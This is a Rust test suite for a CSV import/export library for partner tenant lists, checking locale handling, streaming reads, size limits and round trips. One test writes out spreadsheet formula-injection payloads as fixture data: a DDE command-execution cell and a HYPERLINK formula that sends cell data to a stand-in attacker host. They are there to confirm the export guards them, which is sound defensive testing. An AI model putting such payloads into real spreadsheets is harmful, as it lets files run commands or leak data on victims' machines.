//! AUD-CSV natively: the fixtures of `tests/fixtures/csv/` as spreadsheets write them (Excel in French
//! and English locales, Google Sheets, tabs) and hostile ones (formula cells, an unterminated quote,
//! a 1 MB field — generated here rather than stored), the streaming reader against the one-shot
//! parser for every chunk size 1…16, and `parse(export(x)) == x`.
#![cfg(not(target_arch = "wasm32"))]
#![allow(
    clippy::unwrap_used,
    reason = "helpers of the tests, outside #[test]: a failure there fails the test"
)]

mod common;
use common::Rng;
use csp_partner_rules::audience::List;
use csp_partner_rules::input::Loose;
use csp_partner_rules::{
    export_partner_csv, parse_partner_csv, CsvOptions, IssueCode, Partner, PartnerCsvReader,
    PartnerCsvResult, Severity, Text,
};
use std::path::Path;

fn fixture(name: &str) -> Vec<u8> {
    std::fs::read(Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/csv").join(name)).unwrap()
}

fn fixtures() -> Vec<(String, Vec<u8>)> {
    let mut out: Vec<(String, Vec<u8>)> =
        std::fs::read_dir(Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/csv"))
            .unwrap()
            .map(|e| e.unwrap().path())
            .map(|p| (p.file_name().unwrap().to_string_lossy().into_owned(), std::fs::read(&p).unwrap()))
            .collect();
    out.sort();
    assert!(out.len() >= 7, "fixtures missing");
    out
}

fn parse(text: &str) -> PartnerCsvResult {
    parse_partner_csv(&text.into(), &CsvOptions::default())
}

fn parse_fr(text: &str) -> PartnerCsvResult {
    parse_partner_csv(&text.into(), &CsvOptions { locale: "fr".into(), ..CsvOptions::default() })
}

/// The answer for a file's bytes pushed at once (the reference for the chunked reads).
fn parse_bytes(bytes: &[u8]) -> PartnerCsvResult {
    let mut reader = PartnerCsvReader::new(&CsvOptions::default());
    reader.push_bytes(bytes);
    reader.finish()
}

fn rows(r: &PartnerCsvResult) -> Vec<(String, String, String)> {
    let s = |t: &Text| t.as_str().unwrap_or("").to_owned();
    r.partners.iter().map(|p| (s(&p.tenant_id), s(&p.name), s(&p.country))).collect()
}

/// (code, line, severity) of each issue.
fn issues(r: &PartnerCsvResult) -> Vec<(IssueCode, i64, Severity)> {
    r.issues
        .iter()
        .map(|i| {
            let line = match i.params.get("line") {
                Some(csp_partner_rules::ParamValue::Int(n)) => *n,
                _ => 0,
            };
            (i.code, line, i.severity)
        })
        .collect()
}

fn row(id: &str, name: &str, country: &str) -> (String, String, String) {
    (id.to_owned(), name.to_owned(), country.to_owned())
}

#[test]
fn aud_csv_excel_french_locale_semicolons_bom_crlf() {
    let r = parse_fr(&String::from_utf8(fixture("excel-fr.csv")).unwrap());
    assert_eq!(
        rows(&r),
        [
            row("a2898e3a-06ca-454e-a0d0-c73b0ee36bba", "Société Générale Informatique", "FR"),
            row("484e548c-f5f3-4528-93a9-c16c6373cb59", "Dupont; Fils & Cie", "BE"),
            row("3b33e682-00c3-41ee-9dd2-a548adf56438", "Müller GmbH", "DE"),
            row("b01b1487-b36e-4e6d-9b5e-0b58974c4b28", "Ålesund Data AS", "NO"),
        ]
    );
    // "Belgique": country names are read in every supported locale (issue 15).
    assert_eq!(issues(&r), []);
    assert!(r.ok, "warnings never block");
}

#[test]
fn aud_csv_excel_english_locale_commas_bom_crlf() {
    let r = parse_bytes(&fixture("excel-en.csv"));
    assert_eq!(
        rows(&r),
        [
            row("a2898e3a-06ca-454e-a0d0-c73b0ee36bba", "Contoso, Ltd.", "US"),
            row("484e548c-f5f3-4528-93a9-c16c6373cb59", "Fabrikam Inc.", "US"),
            row("3b33e682-00c3-41ee-9dd2-a548adf56438", "Tailspin \"Toys\"", "GB"),
            row("b01b1487-b36e-4e6d-9b5e-0b58974c4b28", "Wide World Importers", ""),
        ]
    );
    assert_eq!(issues(&r), [], "the delimiter-only row `,,` is a blank line");
    assert!(r.ok);
}

#[test]
fn aud_csv_google_sheets_bad_rows_reported_by_line_and_skipped() {
    let r = parse_bytes(&fixture("google-sheets.csv"));
    assert_eq!(
        rows(&r),
        [
            row("a2898e3a-06ca-454e-a0d0-c73b0ee36bba", "Contoso", "US"),
            row("12345678-acbd-1234-abcd-123456789abc", "Northwind Traders", "CA"),
            row("484e548c-f5f3-4528-93a9-c16c6373cb59", "Line break", "JP"),
        ]
    );
    assert_eq!(
        issues(&r),
        [
            (IssueCode::DuplicatePartner, 4, Severity::Warning),
            (IssueCode::TenantIdFormat, 5, Severity::Error)
        ]
    );
    assert_eq!(r.issues[1].params["value"], "not-a-guid".into());
    assert_eq!(r.issues[1].path, vec!["tenantId".into()]);
    assert_eq!(
        r.issues[1].message,
        "Line 5: Enter the Microsoft Entra tenant ID as a GUID such as a2898e3a-06ca-454e-a0d0-c73b0ee36bba."
    );
    assert!(!r.ok, "a bad row is an error, the good rows are kept anyway");
}

#[test]
fn aud_csv_tab_separated() {
    let r = parse_bytes(&fixture("tabs.tsv"));
    assert_eq!(
        rows(&r),
        [
            row("a2898e3a-06ca-454e-a0d0-c73b0ee36bba", "Contoso, Ltd.", "FR"),
            row("484e548c-f5f3-4528-93a9-c16c6373cb59", "Fabrikam; Inc.", ""),
        ]
    );
    assert_eq!(issues(&r), [(IssueCode::UnknownCountry, 3, Severity::Warning)]);
}

#[test]
fn aud_csv_hostile_formula_cells_stay_text() {
    let r = parse_bytes(&fixture("hostile-formulas.csv"));
    assert_eq!(
        rows(&r),
        [
            row("a2898e3a-06ca-454e-a0d0-c73b0ee36bba", "=cmd|' /C calc'!A0", "FR"),
            row(
                "484e548c-f5f3-4528-93a9-c16c6373cb59",
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
                "FR"
            ),
            row("3b33e682-00c3-41ee-9dd2-a548adf56438", "=1+1", "FR"),
            row("b01b1487-b36e-4e6d-9b5e-0b58974c4b28", "'Tis Ltd", "FR"),
        ]
    );
    // Only a `'` before = + - @ tab CR is a guard to remove (`'Tis Ltd` keeps its apostrophe); a tenant
    // ID written as a formula (`=a289…`) is no tenant ID.
    assert_eq!(issues(&r), [(IssueCode::TenantIdFormat, 6, Severity::Error)]);
    // Exported again, every formula-looking cell is protected.
    let csv = export_partner_csv(&list(&r.partners));
    assert!(csv.contains(",'=cmd|' /C calc'!A0,"), "{csv}");
    assert!(csv.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\","), "{csv}");
    assert_eq!(rows(&parse(&csv)), rows(&r));
}

#[test]
fn aud_csv_hostile_unterminated_quote_loses_only_its_row() {
    let r = parse_bytes(&fixture("hostile-unterminated.csv"));
    assert_eq!(issues(&r), [(IssueCode::CsvUnterminatedQuote, 3, Severity::Error)]);
    assert_eq!(
        rows(&r),
        [
            row("a2898e3a-06ca-454e-a0d0-c73b0ee36bba", "Contoso", "FR"),
            row("3b33e682-00c3-41ee-9dd2-a548adf56438", "Tailspin", "FR"),
            row("b01b1487-b36e-4e6d-9b5e-0b58974c4b28", "Northwind", "FR"),
        ],
        "reading resumes on the line after the one where the quote opened"
    );
}

#[test]
fn aud_csv_hostile_1_mb_fields() {
    // A 1 MB name (10^6 bytes, under the 1 MiB field limit): too long for a name; the row is skipped.
    let big = "x".repeat(1_000_000);
    let text = format!("tenantId,name\na2898e3a-06ca-454e-a0d0-c73b0ee36bba,\"{big}\"\n484e548c-f5f3-4528-93a9-c16c6373cb59,ok\n");
    let r = parse(&text);
    assert_eq!(issues(&r), [(IssueCode::TooLong, 2, Severity::Error)]);
    assert_eq!(rows(&r), [row("484e548c-f5f3-4528-93a9-c16c6373cb59", "ok", "")]);
    // Over 1 MiB in one field, even in a column that is not read: input_too_large for that row only.
    let huge = "y".repeat((1 << 20) + 1);
    let text = format!("tenantId,notes\na2898e3a-06ca-454e-a0d0-c73b0ee36bba,{huge}\n484e548c-f5f3-4528-93a9-c16c6373cb59,ok\n");
    let r = parse(&text);
    assert_eq!(issues(&r), [(IssueCode::InputTooLarge, 2, Severity::Error)]);
    assert_eq!(rows(&r).len(), 1);
    // In a quoted field that never closes, the quote is the problem: reading resumes on the next line…
    let text = format!("tenantId,name\na2898e3a-06ca-454e-a0d0-c73b0ee36bba,ok\n484e548c-f5f3-4528-93a9-c16c6373cb59,\"{huge}\n{huge}\n");
    let r = parse(&text);
    assert_eq!(
        issues(&r),
        [
            (IssueCode::CsvUnterminatedQuote, 3, Severity::Error),
            (IssueCode::InputTooLarge, 4, Severity::Error)
        ]
    );
    assert_eq!(rows(&r).len(), 1);
    // …unless more than 2 MiB follow that line: then the rest of the file is lost (memory stays bounded).
    let text = format!("tenantId,name\na2898e3a-06ca-454e-a0d0-c73b0ee36bba,ok\n484e548c-f5f3-4528-93a9-c16c6373cb59,\"x\n{huge}\n{huge}\n");
    let r = parse(&text);
    assert_eq!(issues(&r), [(IssueCode::CsvUnterminatedQuote, 3, Severity::Error)]);
    assert_eq!(rows(&r).len(), 1);
}

#[test]
fn aud_csv_export_fixture_round_trips() {
    let text = String::from_utf8(fixture("export.csv")).unwrap();
    let r = parse(&text);
    assert!(r.ok, "{:?}", r.issues);
    assert_eq!(r.partners.len(), 6);
    assert_eq!(rows(&r)[0].1, "=HYPERLINK(\"http://evil\")");
    assert_eq!(export_partner_csv(&list(&r.partners)), text, "export(parse(file)) gives the file back");
}

fn list(partners: &[Partner]) -> List<Loose<Partner>> {
    List::Items(partners.iter().cloned().map(Loose::Value).collect())
}

/// The reader, fed `bytes` in chunks of `size`.
fn read_chunked(bytes: &[u8], size: usize, options: &CsvOptions) -> (PartnerCsvResult, u64) {
    let mut reader = PartnerCsvReader::new(options);
    for chunk in bytes.chunks(size) {
        reader.push_bytes(chunk);
    }
    let read = reader.bytes_read();
    (reader.finish(), read)
}

/// The reader, fed text in chunks of about `size` bytes (cut at character boundaries, as `&str` must be).
fn read_str_chunked(text: &str, size: usize) -> PartnerCsvResult {
    let mut reader = PartnerCsvReader::new(&CsvOptions::default());
    let mut rest = text;
    while !rest.is_empty() {
        let mut cut = size.min(rest.len());
        while !rest.is_char_boundary(cut) {
            cut += 1;
        }
        let (chunk, tail) = rest.split_at(cut);
        reader.push_str(chunk);
        rest = tail;
    }
    reader.finish()
}

/// Inputs where chunk borders fall in every interesting place: BOM, multi-byte characters, quotes,
/// `""`, CRLF, line breaks in quotes, an unterminated quote, invalid UTF-8.
fn tricky_inputs() -> Vec<(String, Vec<u8>)> {
    let mut out = fixtures();
    let cases: [&[u8]; 8] = [
        b"\xEF\xBB\xBFtenantId;name\r\na2898e3a-06ca-454e-a0d0-c73b0ee36bba;\"a\"\"b\r\nc\"\r\n",
        "tenantId,name\r\n484e548c-f5f3-4528-93a9-c16c6373cb59,東京 🎌 Ünïcödé\r\n".as_bytes(),
        b"tenantId,name\n484e548c-f5f3-4528-93a9-c16c6373cb59,\xFF\xFEbad\xE2\x82\n",
        b"\n\n  \r\n,,\r\ntenantId\r\r\na2898e3a-06ca-454e-a0d0-c73b0ee36bba\r",
        b"tenantId,name\n\"a2898e3a-06ca-454e-a0d0-c73b0ee36bba\" , \"x\"y\" \n\"unterminated,\n\n484e548c-f5f3-4528-93a9-c16c6373cb59,z",
        b"name,country\nContoso,FR\n",
        b"",
        b"\xEF\xBB",
    ];
    for (i, c) in cases.iter().enumerate() {
        out.push((format!("case {i}"), c.to_vec()));
    }
    out
}

#[test]
fn aud_csv_reader_equals_parse_for_every_chunk_size_1_to_16() {
    for (name, bytes) in tricky_inputs() {
        let whole = parse_bytes(&bytes);
        for size in 1..=16 {
            let (chunked, read) = read_chunked(&bytes, size, &CsvOptions::default());
            assert_eq!(chunked, whole, "{name}: bytes in chunks of {size}");
            assert_eq!(read, bytes.len() as u64, "{name}: bytesRead");
            if let Ok(text) = std::str::from_utf8(&bytes) {
                assert_eq!(read_str_chunked(text, size), whole, "{name}: text in chunks of {size}");
            }
        }
    }
}

#[test]
fn aud_csv_reader_mixed_and_random_chunks() {
    let mut seed = 0x1234_5678_9ABC_DEF0u64;
    let mut next = move || {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        seed
    };
    for (name, bytes) in tricky_inputs() {
        let whole = parse_bytes(&bytes);
        for _ in 0..20 {
            let mut reader = PartnerCsvReader::new(&CsvOptions::default());
            let mut at = 0;
            while at < bytes.len() {
                let size = 1 + (next() % 40) as usize;
                let end = (at + size).min(bytes.len());
                let chunk = &bytes[at..end];
                // Alternate bytes and text where the chunk is whole characters.
                match std::str::from_utf8(chunk) {
                    Ok(s)
                        if next() % 2 == 0
                            && bytes.get(..at).is_some_and(|b| std::str::from_utf8(b).is_ok()) =>
                    {
                        reader.push_str(s)
                    }
                    _ => reader.push_bytes(chunk),
                }
                at = end;
            }
            assert_eq!(reader.finish(), whole, "{name}");
        }
    }
}

#[test]
fn aud_csv_reader_is_reusable_and_counts_bytes() {
    let mut reader = PartnerCsvReader::new(&CsvOptions::default());
    reader.push_str("tenantId\n");
    reader.push_bytes(b"a2898e3a-06ca-454e-a0d0-c73b0ee36bba\n");
    assert_eq!(reader.bytes_read(), 46);
    assert_eq!(reader.partners_read(), 1);
    assert_eq!(reader.finish().partners.len(), 1);
    // Issue 12, item 9: the total stays readable after finish(); the next push starts a new file.
    assert_eq!(reader.bytes_read(), 46, "finish() keeps the finished file's total");
    assert_eq!(reader.partners_read(), 0);
    reader.push_str("tenantId\n");
    assert_eq!(reader.bytes_read(), 9, "a push after finish() starts a new file");
    assert_eq!(reader.finish().partners.len(), 0);
    assert_eq!(reader.finish().issues[0].code, IssueCode::CsvHeaderMissing, "finish() twice: an empty file");
    assert_eq!(reader.bytes_read(), 0);
}

#[test]
fn aud_csv_max_bytes_refuses_before_any_work() {
    let text = "tenantId\na2898e3a-06ca-454e-a0d0-c73b0ee36bba\n";
    let options =
        CsvOptions { max_bytes: csp_partner_rules::audience::Count(Some(10)), ..CsvOptions::default() };
    let r = parse_partner_csv(&text.into(), &options);
    assert_eq!(issues(&r), [(IssueCode::InputTooLarge, 0, Severity::Error)]);
    assert_eq!(r.issues[0].params["maxBytes"], 10i64.into());
    assert!(r.partners.is_empty());
    for size in 1..=16 {
        assert_eq!(read_chunked(text.as_bytes(), size, &options).0, r, "chunks of {size}");
    }
    let exact = CsvOptions {
        max_bytes: csp_partner_rules::audience::Count(Some(text.len() as u64)),
        ..CsvOptions::default()
    };
    assert!(parse_partner_csv(&text.into(), &exact).ok, "the limit itself is accepted");
}

#[test]
fn aud_csv_parse_export_round_trip_property() {
    let pieces = [
        "=", "+", "-", "@", "'", "''", "\"", ",", ";", "a", "Contoso", "Ltd.", " ", "é", "東京", "🎌",
        "SUM(A1)", "|", "!", "\\",
    ];
    let countries = ["", "FR", "US", "BR", "JP", "DE"];
    let mut rng = Rng(7);
    for round in 0..300 {
        let mut partners = Vec::new();
        for i in 0..(1 + rng.next() % 8) {
            let id = format!("{:08x}-0000-4000-8000-{:012x}", round + 1, i + 1);
            let mut name = String::new();
            for _ in 0..(rng.next() % 6) {
                let piece: &&str = rng.pick(&pieces);
                name.push_str(piece);
            }
            // Normalized values: trimmed, collapsed (what import produces).
            let name = name.split_whitespace().collect::<Vec<_>>().join(" ");
            let mut p = Partner::new(&id);
            if !name.is_empty() {
                p = p.with_name(&name);
            }
            let country = *rng.pick(&countries);
            if !country.is_empty() {
                p = p.with_country(country);
            }
            partners.push(p);
        }
        let csv = export_partner_csv(&list(&partners));
        let back = parse(&csv);
        assert!(back.ok, "{csv:?}: {:?}", back.issues);
        assert_eq!(back.partners, partners, "{csv:?}");
        for line in csv.split("\r\n").skip(1).filter(|l| !l.is_empty()) {
            for cell in cells(line) {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "unprotected formula cell {cell:?} in {csv:?}"
                );
            }
        }
    }
}

/// The cells of one CSV line (no line breaks inside), quotes removed: what a spreadsheet shows.
fn cells(line: &str) -> Vec<String> {
    let mut out = vec![String::new()];
    let mut quoted = false;
    let mut chars = line.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (false, ',') => out.push(String::new()),
            (false, '"') if out.last().unwrap().is_empty() => quoted = true,
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                out.last_mut().unwrap().push('"');
            }
            (true, '"') => quoted = false,
            (_, c) => out.last_mut().unwrap().push(c),
        }
    }
    out
}
